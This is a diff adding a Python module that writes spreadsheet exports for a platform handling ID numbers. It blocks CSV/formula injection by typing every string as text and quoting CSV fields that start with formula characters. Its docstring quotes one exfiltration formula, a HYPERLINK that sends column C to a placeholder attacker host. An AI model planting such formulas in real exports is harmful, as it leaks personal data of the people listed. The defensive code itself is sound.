@@ -1,0 +1,183 @@
+"""The one way the platform writes spreadsheets (XLSX and CSV) that people open in Excel or WPS.
+
+Every export goes through here, because a spreadsheet is a program as much as a document:
+
+- **No user text becomes a formula** (issue 15, item 6; OWASP "CSV Injection"). openpyxl
+  turns any ``str`` that starts with ``=`` into a live formula and ``#N/A``, ``#REF!`` … into
+  error cells; in write-only mode ``sheet.append()`` does so silently. A title, a candidate's
+  name or a register name such as ``=HYPERLINK("http://evil.example/"&C2,"点击")`` would then
+  send the full ID number in column C to another website when clicked. Here every ``str`` is
+  an inline string (``t="inlineStr"``, data type ``"s"``) formatted as text (``@``), so the
+  sheet's XML never holds an ``<f>`` element for it and Excel does not evaluate it, not even
+  when someone edits the cell and presses Enter. In CSV, where there are no types, a value
+  starting with ``= + - @``, a tab or a carriage return (and their full-width forms, which
+  Chinese input methods produce) gets a leading ``'``.
+- **The file is never damaged.** XML 1.0 cannot hold most control characters (``\\x01``,
+  ``\\x1b`` …), lone surrogates or U+FFFE/U+FFFF; Excel refuses or "repairs" such a file and
+  openpyxl refuses to write it. They are replaced by U+FFFD (�), so the reader sees that
+  something was there. Text longer than Excel's 32,767 characters per cell is cut with "…".
+  A masked name such as ``=*****`` (the mask of a hostile name) is text too, not a broken
+  formula that made Excel report a damaged file.
+- **Numbers are numbers, identifiers are text.** ``int`` and ``Decimal`` are written as
+  numbers; but Excel keeps 15 significant digits, so an integer of 16 digits or more (an ID
+  number, an account number) is written as text rather than turned into 1.10101199003070E+17.
+  Strings are never converted: an 18-digit ID number or a mobile number passed as ``str``
+  stays exactly that. Floats are refused: money is integer fen, shown as ``Decimal`` yuan.
+
+Use :class:`XlsxWorkbook` (write-only, streams large rosters) and :func:`csv_bytes` /
+:func:`csv_cell`; never ``openpyxl.Workbook`` or ``csv.writer`` directly in an export.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterable
+from dataclasses import dataclass
+from datetime import date, datetime
+from decimal import Decimal
+from typing import TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    from openpyxl.cell import WriteOnlyCell
+
+#: Characters XML 1.0 cannot hold (https://www.w3.org/TR/xml/#charsets), everything except
+#: tab, LF, CR, U+0020–U+D7FF, U+E000–U+FFFD and U+10000–U+10FFFF.
+XML_ILLEGAL = re.compile("[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
+REPLACEMENT = "\ufffd"
+#: Excel's limit on the characters of one cell.
+MAX_CELL_CHARS = 32_767
+#: Excel's precision: integers with more digits lose their last digits.
+MAX_EXACT_DIGITS = 15
+#: First characters that make a spreadsheet program read a CSV field as a formula (OWASP),
+#: with the full-width forms Chinese input methods type.
+CSV_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+TEXT_FORMAT = "@"
+
+
+def clean_cell_text(value: str) -> str:
+    """``value`` as a cell can hold it: XML-illegal characters replaced by U+FFFD, cut to
+    Excel's 32,767 characters."""
+    text = XML_ILLEGAL.sub(REPLACEMENT, value)
+    if len(text) > MAX_CELL_CHARS:
+        text = text[: MAX_CELL_CHARS - 1] + "…"
+    return text
+
+
+def csv_cell(value: Any) -> str:
+    """One CSV field: numbers as they are; text cleaned and, when a spreadsheet would read
+    it as a formula, led by a single quote (``=1+2`` → ``'=1+2``)."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "是" if value else "否"
+    if isinstance(value, int | Decimal):
+        return str(value)
+    if isinstance(value, float):
+        raise TypeError("floats are not written to spreadsheets: use int fen or Decimal yuan")
+    if isinstance(value, datetime | date):
+        return value.isoformat(sep=" ") if isinstance(value, datetime) else value.isoformat()
+    text = clean_cell_text(str(value))
+    if text.startswith(CSV_FORMULA_START):
+        return "'" + text
+    return text
+
+
+def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
+    """A CSV file Excel opens correctly (UTF-8, with a BOM unless ``bom=False``), every field
+    through :func:`csv_cell`."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    for row in rows:
+        writer.writerow([csv_cell(value) for value in row])
+    return (("\ufeff" if bom else "") + buffer.getvalue()).encode()
+
+
+@dataclass(frozen=True, slots=True)
+class Cell:
+    """A value with presentation: a number format (for numbers and times), bold, wrapped."""
+
+    value: Any
+    number_format: str | None = None
+    bold: bool = False
+    wrap: bool = False
+
+
+class XlsxSheet:
+    """One worksheet of an :class:`XlsxWorkbook`; rows are appended in order."""
+
+    def __init__(self, book: XlsxWorkbook, title: str) -> None:
+        self._book = book
+        self._sheet = book._workbook.create_sheet(clean_cell_text(title)[:31])
+
+    def widths(self, widths: Iterable[float]) -> None:
+        from openpyxl.utils import get_column_letter
+
+        for number, width in enumerate(widths, start=1):
+            self._sheet.column_dimensions[get_column_letter(number)].width = width
+
+    def freeze(self, coordinate: str) -> None:
+        self._sheet.freeze_panes = coordinate
+
+    def append(self, values: Iterable[Any] = ()) -> None:
+        """A row: each value a ``str`` (text), ``int``/``Decimal`` (number), ``datetime``
+        (naive, local), ``bool``, ``None`` (empty) or a :class:`Cell`."""
+        self._sheet.append([self._cell(value) for value in values])
+
+    def _cell(self, value: Any) -> WriteOnlyCell:
+        from openpyxl.cell import WriteOnlyCell
+        from openpyxl.cell.cell import TYPE_STRING
+
+        spec = value if isinstance(value, Cell) else Cell(value)
+        raw = spec.value
+        if isinstance(raw, float):
+            raise TypeError("floats are not written to spreadsheets: use int fen or Decimal yuan")
+        text: str | None = None
+        if isinstance(raw, str):
+            text = raw
+        elif isinstance(raw, int) and not isinstance(raw, bool):
+            if len(str(abs(raw))) > MAX_EXACT_DIGITS:
+                text = str(raw)
+        elif isinstance(raw, Decimal):
+            if len(raw.as_tuple().digits) > MAX_EXACT_DIGITS:
+                text = str(raw)
+        elif raw is not None and not isinstance(raw, bool | datetime | date):
+            raise TypeError(f"cannot write {type(raw).__name__} to a spreadsheet")
+
+        cell = WriteOnlyCell(self._sheet)
+        if text is not None:
+            # Assigned after construction, with the type forced: the value setter would make
+            # "=…" a formula and "#N/A" an error.
+            cell.value = clean_cell_text(text)
+            cell.data_type = TYPE_STRING
+            cell.number_format = TEXT_FORMAT
+        else:
+            cell.value = raw
+            if spec.number_format:
+                cell.number_format = spec.number_format
+        if spec.bold:
+            cell.font = self._book._bold
+        if spec.wrap:
+            cell.alignment = self._book._wrap
+        return cell
+
+
+class XlsxWorkbook:
+    """A write-only (streaming) XLSX workbook whose cells are typed as described above."""
+
+    def __init__(self) -> None:
+        from openpyxl import Workbook
+        from openpyxl.styles import Alignment, Font
+
+        self._workbook = Workbook(write_only=True)
+        self._bold = Font(bold=True)
+        self._wrap = Alignment(wrap_text=True, vertical="top")
+
+    def sheet(self, title: str) -> XlsxSheet:
+        return XlsxSheet(self, title)
+
+    def to_bytes(self) -> bytes:
+        buffer = io.BytesIO()
+        self._workbook.save(buffer)
+        return buffer.getvalue()
